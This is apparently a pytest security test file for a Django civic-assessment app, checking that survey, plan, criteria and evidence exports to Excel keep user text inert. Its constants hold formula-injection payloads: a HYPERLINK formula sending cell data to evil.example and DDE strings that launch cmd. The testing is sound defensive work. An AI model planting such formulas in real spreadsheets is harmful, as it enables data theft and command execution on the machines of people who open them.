"""Finding 4: text typed by citizens or staff never becomes a live formula in an export.

Each export is downloaded over HTTP after hostile text was stored where it is written, then
opened again with openpyxl: no cell may be a formula, and the text must read as typed."""

from __future__ import annotations

import io
import zipfile

import openpyxl
import pytest
from django.urls import reverse

from parindex.assessments.models import Assessment, AssessmentRound, Evidence
from parindex.criteria.models import Criterion
from parindex.organizations.models import Organization
from parindex.plans.models import Plan, Task
from parindex.surveys.models import Campaign

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"Xem")'
DDE = "=cmd|' /C calc'!A0"
PLUS = "+1+cmd|'/C notepad'!A0"
MINUS = "-2+3"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
TAB = "\t=1+1"


def cells(content: bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_inert(content: bytes, *texts: str) -> None:
    every = cells(content)
    formulas = [(c.coordinate, c.value) for c in every if c.data_type == "f"]
    assert formulas == []
    values = [c.value for c in every if isinstance(c.value, str)]
    for text in texts:
        assert any(text in value for value in values), text  # the text is kept, as text


def test_a_citizens_comment_stays_text_in_the_survey_export(demo, login_as):
    campaign = Campaign.objects.filter(organization__code="bp-stnmt").order_by("starts_on").last()
    first, second, *_ = campaign.responses.order_by("pk")
    type(first).objects.filter(pk=first.pk).update(comment=HYPERLINK)
    type(second).objects.filter(pk=second.pk).update(comment=DDE, dossier_code=AT)
    response = login_as("vanphong").get(reverse("surveys:campaign_export", args=[campaign.pk]))
    assert response.status_code == 200
    content = response.getvalue()  # a streamed file: read once
    assert_inert(content, HYPERLINK, DDE, AT)
    numbers = [c.value for c in cells(content) if c.data_type == "n" and c.value is not None]
    assert numbers, "scores stay numbers"


def test_task_content_stays_text_in_the_plan_export(demo, login_as):
    plan = Plan.objects.get(organization__code="bp-stnmt", year=2026)
    first, second, third = plan.tasks.order_by("position")[:3]
    Task.objects.filter(pk=first.pk).update(content=DDE, product=PLUS)
    Task.objects.filter(pk=second.pk).update(content=MINUS, number="@1")
    Task.objects.filter(pk=third.pk).update(content=TAB, group=HYPERLINK)
    response = login_as("vanphong").get(reverse("plans:plan_export", args=[plan.pk, "xlsx"]))
    assert response.status_code == 200
    assert_inert(response.content, DDE, PLUS, MINUS, "@1", TAB, HYPERLINK)


def test_criterion_titles_stay_text_in_the_criteria_export(demo, login_as):
    criterion = Criterion.objects.filter(criteria_set__code="bp-stnmt-2024").order_by("pk").first()
    Criterion.objects.filter(pk=criterion.pk).update(title=HYPERLINK, evidence_guidance=DDE)
    response = login_as("admin").get(reverse("criteria:set_export", args=["bp-stnmt-2024", "xlsx"]))
    assert response.status_code == 200
    assert_inert(response.content, HYPERLINK, DDE)


@pytest.fixture
def dn_assessment(demo):
    return Assessment.objects.select_related("round").get(organization__code="dn-sct")


def test_the_self_assessment_sheet_and_the_ranking_keep_text(dn_assessment, login_as):
    code = dn_assessment.round.criteria_set.criteria.order_by("pk").first().pk
    Criterion.objects.filter(pk=code).update(title=DDE)
    AssessmentRound.objects.filter(pk=dn_assessment.round_id).update(title=HYPERLINK)
    client = login_as("dn.vanphong")
    sheet = client.get(reverse("assessments:assessment_export", args=[dn_assessment.pk, "xlsx"]))
    assert sheet.status_code == 200
    assert_inert(sheet.content, DDE, HYPERLINK)
    ranking = client.get(reverse("assessments:round_export", args=[dn_assessment.round_id]))
    assert ranking.status_code == 200
    assert_inert(ranking.content, HYPERLINK)
    numbers = [c.value for c in cells(ranking.content) if c.data_type == "n" and c.value is not None]
    assert numbers, "indices stay numbers"


def test_evidence_fields_stay_text_in_the_evidence_index(dn_assessment, login_as):
    Evidence.objects.create(
        organization=Organization.objects.get(code="dn-sct"),
        year=dn_assessment.round.year,
        number=PLUS,
        issuer=AT,
        title=DDE,
    )
    response = login_as("dn.vanphong").get(reverse("assessments:assessment_export", args=[dn_assessment.pk, "zip"]))
    assert response.status_code == 200
    package = zipfile.ZipFile(io.BytesIO(response.content))
    assert_inert(package.read("danh-muc-tai-lieu-kiem-chung.xlsx"), PLUS, AT, DDE)
